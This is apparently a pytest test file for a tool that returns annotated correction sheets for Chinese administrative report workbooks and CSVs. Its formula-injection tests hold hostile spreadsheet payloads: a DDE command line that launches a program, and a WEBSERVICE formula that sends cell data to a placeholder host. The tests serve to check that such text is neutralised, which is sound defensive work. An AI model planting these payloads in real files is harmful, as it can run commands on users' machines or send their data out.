"""Return sheets: what the sender gets back, and what becomes of it when it is corrected and sent again."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import re
import time
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from etl.catalog import Catalog, load_catalog
from etl.divisions import DayDivisions
from etl.return_sheet.hints import is_slip
from etl.return_sheet.opinions import Problem
from etl.return_sheet.write import write_return_sheet
from etl.self_check import Checked, check_file
from etl.settings import DIVISIONS_FILE
from etl.sources import pulled_of
from tests.unit.hostile_inputs import HEAD_ROWS, HEADER, village, workbook
from tests.unit.test_source_workbooks import CODES, book, fill, platform

NOW = datetime(2026, 3, 2, 10, 30, tzinfo=UTC)
DAY = date(2026, 3, 2)
BOOK, CSV = "village_371302001_20260302.xlsx", "township_371302_20260302_r1.csv.gz"
MOBILE = "13800138078"
ANSWERS = ["测评份数", "回答份数", "很满意", "满意", "基本满意", "不满意", "很不满意"]


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return load_catalog(None)


@pytest.fixture(scope="module")
def divisions() -> DayDivisions:
    return DayDivisions.from_list(DIVISIONS_FILE)


@pytest.fixture
def check(catalog: Catalog, divisions: DayDivisions) -> Any:
    return lambda file: check_file(file, None, catalog, divisions, NOW, DAY)


def survey(workbook: openpyxl.Workbook, *rows: list[Any]) -> None:
    fill(workbook.create_sheet("满意度"), list(rows), channels=[("实体", ANSWERS)])


def put(folder: Path, rows: list[list[Any]], change: Any = None, name: str = BOOK, **form: Any) -> Path:
    file = folder / name
    file.write_bytes(book(rows, change, **form))
    return file


def put_csv(folder: Path, *lines: str, end: str = "\r\n", encoding: str = "gb18030") -> Path:
    file = folder / CSV
    file.write_bytes(gzip.compress(end.join([HEADER, *lines, ""]).encode(encoding), mtime=0))
    return file


def line(unit: str, measure: str, value: str, channel: str = "实体", filled: str = "") -> str:
    return f"{unit},2026-03-02,{channel},{measure},{value},{filled},1"


def unpacked(file: Path, encoding: str = "gb18030") -> str:
    return gzip.decompress(file.read_bytes()).decode(encoding)


def hints(checked: Checked) -> list[str]:
    return [each.hint for each in checked.problems if each.hint]


GOOD = [[CODES[0], "甲村", 1, 2, 3], [CODES[1], "乙村", 4, 5, 6], [None, "合计", 5, 7, 9]]
BAD = [[CODES[0], "甲村", 1, "12件", 3], [CODES[1], "乙村", 4, 5, -6], [None, "合计", 5, 5, 3]]


def test_a_workbook_comes_back_as_it_was_with_the_cells_in_question_marked(
    check: Any, tmp_path: Path
) -> None:
    file = put(tmp_path, BAD)
    sheet = check(file).sheet
    assert sheet == tmp_path / "village_371302001_20260302_r2.xlsx"
    sent, returned = openpyxl.load_workbook(file)["日报表"], openpyxl.load_workbook(sheet)["日报表"]
    for row in sent.iter_rows():
        for cell in row:
            assert returned[cell.coordinate].value == cell.value
    assert returned.merged_cells.ranges == sent.merged_cells.ranges
    marked = {
        cell.coordinate for row in returned.iter_rows() for cell in row if cell.fill.fgColor.rgb == "FFFFC7CE"
    }
    assert marked == {"D5", "E6"}
    assert "12件 不是数字" in returned["D5"].comment.text
    assert returned["F3"].value == "审核意见"
    assert "12件 不是数字" in returned["F5"].value
    assert "-6 为负" in returned["F6"].value
    listed = [[cell.value for cell in row] for row in openpyxl.load_workbook(sheet)["审核意见"].iter_rows()]
    assert listed[5] == ["序号", "位置", "单位代码", "原内容", "原因", "提示"]
    assert [row[1:4] for row in listed[6:]] == [
        ["日报表!D5", str(CODES[0]), "12件"],
        ["日报表!E6", str(CODES[1]), "-6"],
    ]


def test_the_corrected_workbook_is_the_next_revision_and_passes(check: Any, tmp_path: Path) -> None:
    sheet = check(put(tmp_path, BAD)).sheet
    corrected = openpyxl.load_workbook(sheet)
    for place, value in {"D5": 2, "E6": 6, "D7": 7, "E7": 9}.items():
        corrected["日报表"][place] = value
    corrected.save(sheet)
    again = check(sheet)
    assert (again.problems, again.sheet, again.rows) == ([], None, 6)


def test_a_workbook_sent_back_uncorrected_has_the_same_problems_and_one_column(
    check: Any, tmp_path: Path
) -> None:
    first = check(put(tmp_path, BAD))
    second = check(first.sheet)
    assert [(each.place, each.reason) for each in second.problems] == [
        (each.place, each.reason) for each in first.problems
    ]
    assert second.sheet.name == "village_371302001_20260302_r3.xlsx"
    returned = openpyxl.load_workbook(second.sheet)
    titles = [cell.value for row in returned["日报表"].iter_rows() for cell in row].count("审核意见")
    assert (titles, returned.sheetnames.count("审核意见")) == (1, 1)


def test_one_changed_cell_that_would_balance_is_named(check: Any, tmp_path: Path) -> None:
    def change(workbook: openpyxl.Workbook) -> None:
        survey(
            workbook,
            [CODES[0], "甲村", 60, 52, 20, 13, 9, 4, 1],
            [CODES[1], "乙村", 60, 52, 20, 18, 9, 4, 1],
            [None, "合计", 120, 104, 40, 36, 18, 8, 2],
        )

    checked = check(put(tmp_path, GOOD, change))
    words = "五项回答之和应等于回答份数：若“满意”（实体）改为 18 即平衡"
    assert words in hints(checked), "the column's total leaves no other cell"
    returned = openpyxl.load_workbook(checked.sheet)["满意度"]
    marked = {
        cell.coordinate for row in returned.iter_rows() for cell in row if cell.fill.fgColor.rgb == "FFFFC7CE"
    }
    assert marked == {"D5", "E5", "F5", "G5", "H5", "I5", "F7"}
    corrected = openpyxl.load_workbook(checked.sheet)
    corrected["满意度"]["F5"] = 18
    corrected.save(checked.sheet)
    assert check(checked.sheet).problems == []


def test_without_a_total_slips_of_the_hand_come_first(check: Any, tmp_path: Path) -> None:
    unit = "371302001000"
    values = dict(zip(ANSWERS, (60, 52, 20, 81, 9, 4, 1), strict=True))
    checked = check(put_csv(tmp_path, *(line(unit, name, str(value)) for name, value in values.items())))
    (hint,) = hints(checked)
    assert hint.startswith("五项回答之和应等于回答份数：若“满意”（实体）改为 18 即平衡")
    assert "“回答份数”" not in hint, "115 answers of 60 asked would break the other check"


def test_no_hint_is_given_where_one_cell_cannot_mend_it(check: Any, tmp_path: Path) -> None:
    unit = "371302001000"
    values = dict(zip(ANSWERS, (10, 52, 90, 81, 9, 4, 1), strict=True))
    checked = check(put_csv(tmp_path, *(line(unit, name, str(value)) for name, value in values.items())))
    assert checked.problems
    assert hints(checked) == []


def test_a_senders_total_is_weighed_against_its_rows(check: Any, tmp_path: Path) -> None:
    unit = "371302001000"
    checked = check(
        put_csv(
            tmp_path, line(unit, "解答法律咨询", "12"), line(unit, "调解受理", "3"), line(unit, "合计", "24")
        )
    )
    (hint,) = hints(checked)
    assert "若“解答法律咨询”（实体）改为 21 即平衡" in hint.split("；")[0]
    assert f"若合计（{CSV}:4）改为 15 即平衡" in hint


@pytest.mark.parametrize(
    ("written", "meant", "slip"),
    [
        (81, 18, True), (122, 12, True), (12, 122, True), (120, 12, True), (12, 13, True), (1, 9, False),
        (12, 99, False), (12, 12345, False), (1234, 1324, True), (1234, 4231, True), (1234, 2143, False),
    ],
)  # fmt: skip
def test_slips_of_the_hand(written: float, meant: float, slip: bool) -> None:
    assert is_slip(written, meant) is slip


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_a_csv_comes_back_line_by_line_with_a_last_column(check: Any, tmp_path: Path, end: str) -> None:
    file = put_csv(
        tmp_path,
        line("371302001000", "解答法律咨询", '"1,204"'),
        line("371302002000", "调解受理", "12件", filled="2026-03-02 17:40:00"),
        "371302003000,2026-03-02,实体",
        end=end,
    )
    sheet = check(file).sheet
    assert sheet.name == "township_371302_20260302_r2.csv.gz"
    sent, returned = unpacked(file).split(end), unpacked(sheet).split(end)
    assert returned[0] == f"{HEADER},审核意见"
    assert [back.startswith(line) for line, back in zip(sent, returned, strict=True)] == [True] * 5
    assert returned[1] == f"{sent[1]},"
    assert "12件 不是数字" in returned[2]
    assert "3 列" in returned[3]
    digest = hashlib.sha256(sheet.read_bytes()).hexdigest()
    assert Path(f"{sheet}.sha256").read_text() == f"{digest}  {sheet.name}\n"


def test_a_csv_sent_back_uncorrected_loses_nothing_and_corrected_passes(check: Any, tmp_path: Path) -> None:
    first = check(
        put_csv(
            tmp_path,
            line("371302002000", "调解受理", "x"),
            "371302003000,2026-03-02,实体",
            "371302003000,2026-03-02,实体,调解受理,1,,1,多,多",
            line("371302003000", "解答法律咨询", "5"),
        )
    )
    second = check(first.sheet)
    assert second.sheet.name.endswith("_r3.csv.gz")
    assert second.rows == first.rows == 4
    assert [each.unit_code for each in second.problems] == [each.unit_code for each in first.problems]
    text = unpacked(first.sheet).split("\r\n")
    kept = [text[0], text[1].replace(",x,", ",7,"), text[4]]
    first.sheet.write_bytes(gzip.compress("\r\n".join(kept).encode("gb18030"), mtime=0))
    again = check(first.sheet)
    assert (again.problems, again.rows) == ([], 2)


def test_what_has_no_row_is_said_at_its_units_line_or_at_the_first(check: Any, tmp_path: Path) -> None:
    file = put_csv(
        tmp_path, line("371302001000", "调解受理", "1"), line("999999999999", "零报告", "0", channel="")
    )
    back = unpacked(check(file).sheet).split("\r\n")
    assert back[1].endswith(",")
    assert "零报告未采用：单位代码 999999999999 不在区划名录中" in back[2]


def test_nobodys_number_is_in_anything_that_comes_back(check: Any, tmp_path: Path) -> None:
    def change(workbook: openpyxl.Workbook) -> None:
        sheet = workbook["日报表"]
        sheet["C5"] = int(MOBILE)
        sheet["G9"] = f"电话 {MOBILE}"
        sheet["C6"].comment = openpyxl.comments.Comment(f"问 {MOBILE}", MOBILE)
        sheet["D6"].hyperlink = f"tel:{MOBILE}"
        sheet.oddHeader.center.text = MOBILE
        other = workbook.create_sheet("通讯录")
        other.append(["张三", MOBILE, "371302199003071234"])
        other["A2"] = f'="{MOBILE}"'
        workbook.properties.creator = MOBILE

    sheet = check(put(tmp_path, GOOD, change)).sheet
    with zipfile.ZipFile(sheet) as archive:
        parts = {name: archive.read(name).decode(errors="replace") for name in archive.namelist()}
    assert len(parts) > 5
    for name, text in parts.items():
        assert MOBILE not in text, name
        assert "199003071234" not in text, name
    assert any("138******78" in text for text in parts.values())
    lines = [line("371302001000", "调解受理", "1", filled=MOBILE), line("371302002000", MOBILE, "2")]
    assert MOBILE not in unpacked(check(put_csv(tmp_path, *lines)).sheet)


DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "＝1+1",
    '=HYPERLINK("http://x","y")',
]


def test_no_text_becomes_a_formula_in_a_workbook(check: Any, tmp_path: Path) -> None:
    def change(workbook: openpyxl.Workbook) -> None:
        sheet = workbook["日报表"]
        for number, text in enumerate(DANGEROUS, 5):
            for column in (1, 2, 3):
                sheet.cell(number, column).value = text
                sheet.cell(number, column).data_type = "s"
        sheet["D5"] = '=WEBSERVICE("http://example.invalid/?"&A1)'
        sheet["D6"] = "=SUM(D7:D8)"
        sheet["D7"] = "='日报表'!A1"
        sheet["D8"] = "=cmd|' /C calc'!A0"

    sheet = check(put(tmp_path, [], change, foot=())).sheet
    returned = openpyxl.load_workbook(sheet)
    formulas = [
        (cell.coordinate, cell.value)
        for worksheet in returned
        for row in worksheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == [("D6", "=SUM(D7:D8)")]
    texts = [cell.value for row in returned["日报表"].iter_rows(min_row=5) for cell in row[:1]]
    assert [text.strip() for text in texts[:8]] == [text.strip() for text in DANGEROUS]
    assert returned["日报表"]["A5"].quotePrefix


def test_no_text_becomes_a_formula_in_a_csv(check: Any, tmp_path: Path) -> None:
    lines = [
        line("371302001000", text, text, channel=text, filled=text) for text in DANGEROUS if "," not in text
    ]
    lines.append(line("371302001000", "调解受理", "-5"))
    lines.append(line("371302001000", "公证咨询", "-"))
    cells = list(csv.reader(io.StringIO(unpacked(check(put_csv(tmp_path, *lines)).sheet))))
    assert len(cells) == len(lines) + 1
    for row in cells:
        for cell in row:
            assert not re.match(r"\s*[=+\-@＝]", cell) or re.fullmatch(r"-\d*", cell), cell
    assert [row[4] for row in cells[-2:]] == ["-5", "-"], "numbers and dashes stay what they are"


def test_nothing_that_is_there_is_written_over(check: Any, tmp_path: Path) -> None:
    file = put(tmp_path, BAD)
    before = file.read_bytes()
    there = put(tmp_path, GOOD, name="village_371302001_20260302_r2.xlsx")
    sheet = check(file).sheet
    assert sheet.name == "village_371302001_20260302_r3.xlsx"
    assert file.read_bytes() == before
    assert there.read_bytes() == book(GOOD) or len(there.read_bytes()) > 1_000
    assert check(there).problems == []


def returned(catalog: Catalog, folder: Path, data: bytes, *problems: Problem) -> Path:
    pulled = pulled_of(DAY, BOOK, [data], NOW)
    return write_return_sheet(pulled, platform(), catalog, problems, folder)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"not a workbook",
        workbook(
            HEAD_ROWS + village(5, ""), tail='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        ),
        workbook(HEAD_ROWS + village(5, "<c><v>1</v></c>" * 1_200_000)),
        workbook(HEAD_ROWS, more={"xl/styles.xml": b"<not><closed>"}),
    ],
)
def test_what_cannot_be_marked_gets_a_list_of_its_own_quickly(
    catalog: Catalog, tmp_path: Path, data: bytes
) -> None:
    started = time.monotonic()
    sheet = returned(catalog, tmp_path, data, Problem(0, BOOK, "", "rejected", "不是 xlsx\x00工作簿\x1b[31m"))
    assert time.monotonic() - started < 30
    assert sheet.name == "village_371302001_20260302.xlsx_审核意见.xlsx"
    listed = openpyxl.load_workbook(sheet)
    assert listed.sheetnames == ["审核意见"]
    assert listed["审核意见"]["E7"].value.startswith("不是 xlsx")
    assert returned(catalog, tmp_path, data).name == "village_371302001_20260302.xlsx_审核意见_2.xlsx"


def test_a_workbook_that_only_lacks_its_form_comes_back_with_the_list(
    catalog: Catalog, tmp_path: Path
) -> None:
    other = openpyxl.Workbook()
    other.active.append(["随手记", 1])  # type: ignore[union-attr]
    file = io.BytesIO()
    other.save(file)
    sheet = returned(
        catalog, tmp_path, file.getvalue(), Problem(0, BOOK, "", "rejected", "没有工作表“日报表”")
    )
    assert openpyxl.load_workbook(sheet).sheetnames == ["Sheet", "审核意见"]


def test_thousands_of_matters_are_listed_up_to_a_bound(catalog: Catalog, tmp_path: Path) -> None:
    problems = [Problem(0, f"第 {number} 行", str(number), "value", "不是数字") for number in range(6_000)]
    sheet = openpyxl.load_workbook(returned(catalog, tmp_path, b"", *problems))["审核意见"]
    assert sheet.max_row == 6 + 5_000 + 1
    assert sheet.cell(sheet.max_row, 1).value == "另有 1,000 条未列出"
